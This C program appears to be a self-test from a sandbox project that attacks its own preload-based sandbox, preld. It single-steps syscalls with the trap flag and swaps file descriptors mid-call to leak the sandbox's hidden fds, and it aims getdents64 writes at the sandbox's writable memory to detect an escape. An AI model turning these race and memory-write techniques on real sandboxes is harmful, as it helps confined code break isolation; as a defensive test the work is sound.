/* listing_steps: the session fast path's listing, dup and close gates
 * (arch fast_gate_listing, fast_gate_dup, fast_gate_close), single-stepped
 * by the program itself (the trap flag, its own SIGTRAP handler), whose
 * handler at step K swaps what a number names, for every K until the call
 * ends first:
 *   A listing: getdents64 of a grant's directory fd (marked FAST_STAT_MARK
 *     for the gate); at step K the handler closes it and puts
 *     /proc/self/fd at its number.
 *   B close: close of that fd; at step K the handler opens /proc/self/fd
 *     and, if it got the closed number, lists it there.
 *   C dup / F_DUPFD_CLOEXEC: a copy of that fd; at step K the handler, if
 *     the copy exists, closes it and puts /proc/self/fd at its number; the
 *     program then lists that number.
 *   E stat beside (the stat gate's fstatat(fd, NAME, AT_SYMLINK_NOFOLLOW)):
 *     at step K the handler puts /proc/self/fd at the fd's number. First
 *     NAME `0` (an fd the program has) finds the last step that comes
 *     before the call; then at that step, each number from 3 to
 *     1099 the program has no fd at: natively ENOENT; found, it is one of
 *     preld's, statted by the kernel beside /proc/self/fd (LEAK).
 * Natively a listing of /proc/self/fd names only fds the program has open
 * (its own fcntl(F_GETFD) works on each): a name it cannot use is one of
 * preld's own fds, listed by the kernel where the handler would have left
 * them out (LEAK). Then D: getdents64 of a grant's directory fd into
 * preld's own memory (ld-preld's writable mapping, found in
 * /proc/self/maps): natively no such memory (EFAULT in a session, as the
 * stat gate's buffers); a listing written there is ESCAPE. */
#include "attack.h"
#include <signal.h>
#include <sys/stat.h>
#include <stdint.h>
#include <ucontext.h>

static volatile long steps, at, done;
static volatile int mode, victim, copy_at, hit_before, leaks;
static char ename[16];
static char lbuf[1 << 16];

/* Names in a listing that are numbers the program has no fd at. */
static int foreign(int fd, long r) {
    int bad = 0;
    for (long o = 0; o < r; o += *(unsigned short *)(lbuf + o + 16)) {
        const char *name = lbuf + o + 19;
        char *end;
        long n = strtol(name, &end, 10);
        if (*name < '0' || *name > '9' || *end)
            continue;
        if (fcntl((int)n, F_GETFD) < 0 && errno == EBADF)
            bad++;
    }
    (void)fd;
    return bad;
}

/* The whole listing of fd from its start: foreign names, or -1 if the
   listing failed. */
static int list_foreign(int fd) {
    lseek(fd, 0, SEEK_SET);
    int bad = 0;
    long r;
    while ((r = syscall(SYS_getdents64, fd, lbuf, sizeof lbuf)) > 0)
        bad += foreign(fd, r);
    return r < 0 ? -1 : bad;
}

static int at_number(int n, const char *path) {
    int p = open(path, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (p >= 0 && p != n) {
        dup2(p, n);
        close(p);
        p = n;
    }
    return p;
}

static void on_trap(int sig, siginfo_t *si, void *ucv) {
    (void)sig;
    (void)si;
    ucontext_t *uc = ucv;
    if (done || ++steps != at)
        return;
    done = 1;
    uc->uc_mcontext.gregs[REG_EFL] &= ~0x100L;
    int e = errno;
    if (mode == 0 || mode == 3) {
        close(victim);
        at_number(victim, "/proc/self/fd");
    } else if (mode == 1) {
        int p = open("/proc/self/fd", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
        if (p == victim) {
            hit_before++;
            int b = list_foreign(p);
            if (b > 0)
                leaks++;
        }
        if (p >= 0)
            close(p);
    } else {
        if (fcntl(copy_at, F_GETFD) >= 0) {
            hit_before++;
            close(copy_at);
            at_number(copy_at, "/proc/self/fd");
        }
    }
    errno = e;
}

static void tf_on(void) { __asm__ volatile("pushfq; orq $0x100, (%%rsp); popfq" ::: "memory", "cc"); }
static void tf_off(void) { __asm__ volatile("pushfq; andq $~0x100, (%%rsp); popfq" ::: "memory", "cc"); }

/* The grant's directory at number n, learnt by the handler (a stat beside
   it) and listed (its listing site rewritten). */
static void grant_at(int n, const char *dir) {
    int d = at_number(n, dir);
    if (d != n) {
        printf("cannot open %s at %d\n", dir, n);
        exit(1);
    }
    struct stat st;
    for (int i = 0; i < 4; i++) {
        syscall(SYS_newfstatat, d, "victim", &st, AT_SYMLINK_NOFOLLOW);
        lseek(d, 0, SEEK_SET);
        syscall(SYS_getdents64, d, lbuf, sizeof lbuf);
    }
}

int main(int argc, char **argv) {
    ARGS
    setvbuf(stdout, NULL, _IOLBF, 0);
    struct sigaction sa = {0};
    sa.sa_sigaction = on_trap;
    sa.sa_flags = SA_SIGINFO;
    sigaction(SIGTRAP, &sa, 0);
    /* The numbers the attacks use, the lowest free ones. */
    victim = open("/", O_RDONLY | O_DIRECTORY);
    close(victim);
    copy_at = victim + 1;
    {
        int pf = open("/proc/self/fd", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
        printf("/proc/self/fd through the handler: %d foreign\n", list_foreign(pf));
        close(pf);
    }
    /* Sites warmed up: dup, fcntl, close. */
    grant_at(victim, ro);
    for (int i = 0; i < 4; i++) {
        int c = dup(victim);
        close(c);
        c = fcntl(victim, F_DUPFD_CLOEXEC, 0);
        close(c);
    }
    close(victim);

    long last_before = 0;
    const char *names[] = {"A listing", "B close", "C dup", "C F_DUPFD_CLOEXEC", "E stat beside"};
    strcpy(ename, "0");
    for (int m = 0; m < 5; m++) {
        mode = m < 3 ? m : m == 3 ? 2 : 3;
        leaks = 0;
        hit_before = 0;
        long k;
        for (k = 1; k < 100000; k++) {
            grant_at(victim, ro);
            steps = 0;
            done = 0;
            at = k;
            if (m == 0) {
                lseek(victim, 0, SEEK_SET);
                tf_on();
                long r = syscall(SYS_getdents64, victim, lbuf, sizeof lbuf);
                tf_off();
                if (r > 0 && foreign(victim, r) > 0)
                    leaks++;
            } else if (m == 4) {
                struct stat st;
                tf_on();
                long r = syscall(SYS_newfstatat, victim, ename, &st, AT_SYMLINK_NOFOLLOW);
                tf_off();
                if (r == 0)
                    last_before = k;
            } else if (m == 1) {
                tf_on();
                close(victim);
                tf_off();
            } else {
                tf_on();
                int c = m == 2 ? dup(victim) : fcntl(victim, F_DUPFD_CLOEXEC, 0);
                tf_off();
                (void)c;
                if (list_foreign(copy_at) > 0)
                    leaks++;
                close(copy_at);
            }
            close(victim);
            if (!done)
                break;
        }
        if (m == 4) {
            /* Then preld's numbers, at the last steps before the call. */
            int tried = 0;
            for (int n = 3; n < 1100; n++) {
                if (n == victim || fcntl(n, F_GETFD) >= 0 || errno != EBADF)
                    continue;
                snprintf(ename, sizeof ename, "%d", n);
                for (long j = last_before; j > 0 && j > last_before - 1; j--) {
                    grant_at(victim, ro);
                    steps = 0;
                    done = 0;
                    at = j;
                    struct stat st;
                    tf_on();
                    long r = syscall(SYS_newfstatat, victim, ename, &st, AT_SYMLINK_NOFOLLOW);
                    tf_off();
                    close(victim);
                    tried++;
                    if (r == 0)
                        leaks++;
                }
            }
            printf("E: the last step before the call %s, %d stats of numbers not open\n", last_before ? "found" : "not found", tried);
        }
        printf("%s: %ld steps, swapped after the call %d times, %s\n", names[m], k, hit_before, leaks ? "LEAK: preld's fds listed" : "held");
    }

    /* D: a listing into preld's memory. */
    char maps[65536];
    int mf = open("/proc/self/maps", O_RDONLY);
    long n = 0, got;
    while (mf >= 0 && (got = read(mf, maps + n, sizeof maps - 1 - n)) > 0)
        n += got;
    maps[n] = 0;
    close(mf);
    unsigned long places[4];
    int np = 0;
    for (char *l = maps; *l && np < 2;) {
        char *e = strchr(l, '\n');
        if (e)
            *e = 0;
        unsigned long lo, hi;
        char perms[8];
        if (strstr(l, "ld-preld") && sscanf(l, "%lx-%lx %7s", &lo, &hi, perms) == 3 && perms[1] == 'w') {
            /* The writable segment's last 64 bytes (past the linker's end
               of the image: nothing of preld's lives there). */
            places[np++] = hi - 64;
        }
        l = e ? e + 1 : l + strlen(l);
    }
    printf("preld's writable memory: %s\n", np ? "found" : "none");
    grant_at(victim, ro);
    for (int i = 0; i < np; i++) {
        long r = 0;
        for (int j = 0; j < 4; j++) {
            lseek(victim, 0, SEEK_SET);
            r = syscall(SYS_getdents64, victim, places[i], 64);
            if (r < 0)
                r = -errno;
        }
        printf("D listing into preld's memory, place %d: %s%s\n", i, r < 0 ? strerror((int)-r) : "listed", r >= 0 ? " ESCAPE: wrote into preld's memory" : "");
        /* The kernel's other answers for memory it cannot write, as for
           memory not mapped: a count too small, a number not open, the
           listing's end. */
        r = syscall(SYS_getdents64, victim, places[i], 0) < 0 ? errno : 0;
        printf("D count 0 into preld's memory: %s\n", strerrorname_np((int)r));
        r = syscall(SYS_getdents64, 700, places[i], 64) < 0 ? errno : 0;
        printf("D number not open into preld's memory: %s\n", strerrorname_np((int)r));
        while (syscall(SYS_getdents64, victim, lbuf, sizeof lbuf) > 0)
            ;
        r = syscall(SYS_getdents64, victim, places[i], 64);
        printf("D at the end into preld's memory: %ld\n", r);
    }
    struct stat st;
    printf("after: stat / %s, open victim %s\n", stat("/", &st) == 0 ? "ok" : strerror(errno), lc(open(cat2(ro, "/victim"), O_RDONLY)) >= 0 ? "ok" : "fails");
    printf("listing_steps: done\n");
    return 0;
}
